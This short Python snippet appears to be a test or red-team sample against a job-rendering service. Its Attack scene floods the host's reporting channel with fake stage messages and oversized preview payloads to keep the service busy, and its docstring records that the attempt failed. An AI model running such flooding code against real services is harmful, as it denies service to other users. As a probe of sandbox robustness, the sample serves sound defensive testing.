"""Success: endless reports keep the service busy and the job from ending.

Outcome: failed: ValueError: over
"""

import json, time


class Attack(Scene):
    def construct(self):
        preview = json.dumps({"type": "preview", "jpeg": "A" * 100_000}).encode() + b"\n"
        flood = b'{"type":"stage","stage":"rendering"}\n{"type":"stage","stage":"loading"}\n' * 1000
        end = time.monotonic() + 3
        while time.monotonic() < end:
            os.write(channel_descriptor(), flood + preview * 4)
        raise ValueError("over")
